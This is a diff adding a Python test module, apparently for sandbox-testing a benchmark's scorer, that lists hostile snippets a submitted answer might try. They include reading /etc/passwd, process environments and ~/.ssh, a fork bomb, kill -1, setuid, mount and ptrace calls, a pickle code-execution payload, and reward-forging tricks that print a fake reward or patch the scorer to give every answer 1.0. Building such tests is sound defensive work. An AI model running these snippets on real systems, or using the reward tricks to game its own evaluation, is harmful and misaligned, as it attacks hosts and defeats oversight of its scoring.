@@ -1,0 +1,218 @@
+"""Attempts: what an answer may try when its scorer runs it.
+
+Each is Python that leaves `won` true when it got what it wanted. `{secret}`, `{folder}`, `{port}`, `{pid}`
+and `{socket}` stand for a file with a secret, a folder that everybody may write to, a port of this machine
+that is listened on, a process of this user, and a socket's path.
+"""
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True, slots=True)
+class Attempt:
+    """One attempt."""
+
+    name: str
+    code: str
+
+
+def _opens(path: str, mode: str = "r") -> str:
+    return f"won = bool(open({path!r}, {mode!r}).{'read()' if mode == 'r' else 'write(chr(65) * 9)'})"
+
+
+def _runs(code: str) -> str:
+    return "\n".join(line.strip() for line in code.strip().splitlines()).replace("|", "    ")
+
+
+ATTEMPTS = (
+    Attempt("reads a secret", _opens("{secret}")),
+    Attempt("reads the users", _opens("/etc/passwd")),
+    Attempt("reads its variables", "import os; won = 'ANTIPHON_CANARY' in os.environ"),
+    Attempt("reads variables of process 1", _opens("/proc/1/environ")),
+    Attempt("reads its own memory map", _opens("/proc/self/maps")),
+    Attempt(
+        "reads the machine's processes", "import os; won = any(n.isdigit() for n in os.listdir('/proc'))"
+    ),
+    Attempt(
+        "reads the home folder", "import os, pwd; won = bool(os.listdir(pwd.getpwuid(0).pw_dir + '/.ssh'))"
+    ),
+    Attempt(
+        "reads inherited files",
+        _runs("""
+        import os
+        won = False
+        for fd in range(3, 64):
+        |try:
+        ||won = won or bool(os.pread(fd, 9, 0))
+        |except OSError:
+        ||pass
+    """),
+    ),
+    Attempt("reads further answers", "import os; won = bool(os.read(0, 9))"),
+    Attempt("writes to a folder of all", _opens("{folder}/written", "w")),
+    Attempt("writes to /tmp", _opens("/tmp/written", "w")),
+    Attempt("writes to shared memory", _opens("/dev/shm/written", "w")),
+    Attempt("writes to the root", _opens("/written", "w")),
+    Attempt(
+        "writes to the packages",
+        _runs("""
+        import antiphon.core, os
+        won = bool(open(os.path.join(antiphon.core.__path__[0], "written.py"), "w").write("x = 1"))
+    """),
+    ),
+    Attempt(
+        "fills the memory by a file",
+        _runs("""
+        import os
+        fd = os.memfd_create("written")
+        won = os.write(fd, bytes(1 << 20)) > 0
+    """),
+    ),
+    Attempt(
+        "links to a secret",
+        "import os; os.symlink('{secret}', '/tmp/link'); won = bool(open('/tmp/link').read())",
+    ),
+    Attempt(
+        "makes a device",
+        "import os, stat; os.mknod('/disk', stat.S_IFBLK | 0o600, os.makedev(8, 0)); won = True",
+    ),
+    Attempt(
+        "mounts a file system",
+        _runs("""
+        import ctypes
+        libc = ctypes.CDLL(None, use_errno=True)
+        won = libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0
+    """),
+    ),
+    Attempt(
+        "makes a namespace of its own",
+        _runs("""
+        import ctypes
+        won = ctypes.CDLL(None).unshare(0x10000000 + 0x00020000) == 0 and open("/proc/1/environ").read() != ""
+    """),
+    ),
+    Attempt(
+        "connects to a port here",
+        "import socket; socket.create_connection(('127.0.0.1', {port}), 1); won = True",
+    ),
+    Attempt(
+        "connects to a socket here",
+        _runs("""
+        import socket
+        one = socket.socket(socket.AF_UNIX)
+        one.connect("{socket}")
+        won = True
+    """),
+    ),
+    Attempt(
+        "connects to an abstract socket",
+        _runs("""
+        import socket
+        one = socket.socket(socket.AF_UNIX)
+        one.connect("\\0antiphon-canary")
+        won = True
+    """),
+    ),
+    Attempt(
+        "connects to the network", "import socket; socket.create_connection(('192.0.2.1', 80), 1); won = True"
+    ),
+    Attempt(
+        "sends a datagram",
+        _runs("""
+        import socket
+        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        won = one.sendto(b"secret", ("192.0.2.1", 53)) > 0
+    """),
+    ),
+    Attempt("asks for a name", "import socket; won = bool(socket.getaddrinfo('example.com', 80))"),
+    Attempt(
+        "starts a program",
+        "import subprocess; won = subprocess.run(['/bin/sh', '-c', 'true']).returncode == 0",
+    ),
+    Attempt("becomes a program", "import os; os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])"),
+    Attempt("forks for ever", "import os\nwhile True:\n    os.fork()"),
+    Attempt(
+        "starts threads for ever",
+        _runs("""
+        import threading, time
+        won = False
+        for number in range(99):
+        |threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
+        won = True
+    """),
+    ),
+    Attempt("kills a process here", "import os; os.kill({pid}, 9); won = True"),
+    Attempt("kills the process that it came from", "import os\nwhile True:\n    os.kill(os.getppid(), 9)"),
+    Attempt("stops the process that it came from", "import os\nwhile True:\n    os.kill(os.getppid(), 19)"),
+    Attempt("kills all it can", "import os; os.kill(-1, 9); won = False"),
+    Attempt(
+        "traces the process that it came from",
+        _runs("""
+        import ctypes, os
+        won = ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0
+    """),
+    ),
+    Attempt("becomes the administrator", "import os; os.setuid(0); won = True"),
+    Attempt("takes all memory", "held = []\nwhile True:\n    held.append(bytearray(1 << 26))"),
+    Attempt("sleeps for ever", "import time\nwhile True:\n    time.sleep(60)"),
+    Attempt("computes for ever", "9**9**9**9"),
+    Attempt(
+        "ignores signals and goes on",
+        _runs("""
+        import signal
+        for number in (1, 2, 3, 13, 14, 15, 24):
+        |signal.signal(number, signal.SIG_IGN)
+        while True:
+        |pass
+    """),
+    ),
+    Attempt(
+        "writes much to its output",
+        "import os\nfor n in range(64):\n    os.write(1, bytes(1 << 20))\n    print('x' * 99)",
+    ),
+    Attempt(
+        "writes a result of another answer",
+        _runs("""
+        import os
+        for fd in (0, 1, 2):
+        |os.write(fd, b'{{"reward": 1.0}}' + bytes([10]))
+        os._exit(0)
+    """),
+    ),
+    Attempt(
+        "floods the results",
+        _runs("""
+        import os
+        for fd in range(3, 16):
+        |try:
+        ||os.write(fd, b"x" * 4096 * 16)
+        |except OSError:
+        ||pass
+        os._exit(0)
+    """),
+    ),
+    Attempt(
+        "loads a pickle",
+        _runs("""
+        import pickle
+        end = bytes([10])
+        won = pickle.loads(b"cposix" + end + b"system" + end + b"(Vtrue" + end + b"tR.") == 0
+    """),
+    ),
+    Attempt("evaluates an import", "won = eval(\"__import__('os').system('true')\") == 0"),
+    Attempt("ends the interpreter", "import sys; sys.exit(0)"),
+    Attempt("ends the process", "import os; os._exit(0)"),
+    Attempt("crashes the process", "import ctypes; ctypes.string_at(0)"),
+    Attempt("recurses without end", "def f(): return f()\nf()"),
+    Attempt("reads a huge number", "import sys; sys.set_int_max_str_digits(0); won = int('9' * 10**8) < 0"),
+    Attempt("raises with half a character", "raise ValueError(chr(0xD800))"),
+    Attempt(
+        "changes the scorer of later answers",
+        _runs("""
+        from antiphon.benchmarks.parts.sandbox import environment
+        environment.Evaluating.reward = lambda self, problem, completions: [1.0] * len(completions)
+        won = False
+    """),
+    ),
+)
+"""In no order; `{{` and `}}` are braces."""
